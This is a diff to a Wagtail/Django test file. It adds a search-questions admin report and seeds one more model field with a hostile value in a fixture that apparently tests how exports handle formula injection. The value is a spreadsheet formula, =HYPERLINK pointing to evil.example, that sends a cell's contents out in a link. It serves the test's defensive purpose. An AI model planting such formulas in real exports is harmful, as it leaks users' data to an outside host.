@@ -14,7 +14,9 @@ from wagtail.models import Workflow
 
 from blog.desk import exporting
 from blog.models import OutboxEntry, PostPage
+from blog.moments import today
 from review.links import make_review_link
+from search.models import NotedQuestion
 from tests.factories import make_author, make_post
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
@@ -30,6 +32,7 @@ ADDRESSES = [
     "/admin/reports/aging-pages/",
     "/admin/reports/deliveries/",
     "/admin/reports/review-links/",
+    "/admin/reports/searches/",
     "/admin/redirects/",
 ]
 
@@ -49,6 +52,7 @@ def hostile_admin(admin, admin_user, engineers):
     Workflow.objects.get(active=True).start(PostPage.objects.get(slug="hostile-1"), admin_user)
     Redirect.objects.create(old_path=FORMULA, redirect_link=FORMULA)
     OutboxEntry.objects.create(kind="purge", key=FORMULA, what=FORMULA, problem=FORMULA)
+    NotedQuestion.objects.create(words=FORMULA, day=today(), askings=2, results=0)
     make_review_link(post, label=FORMULA, made_by=admin_user)
     return admin
 
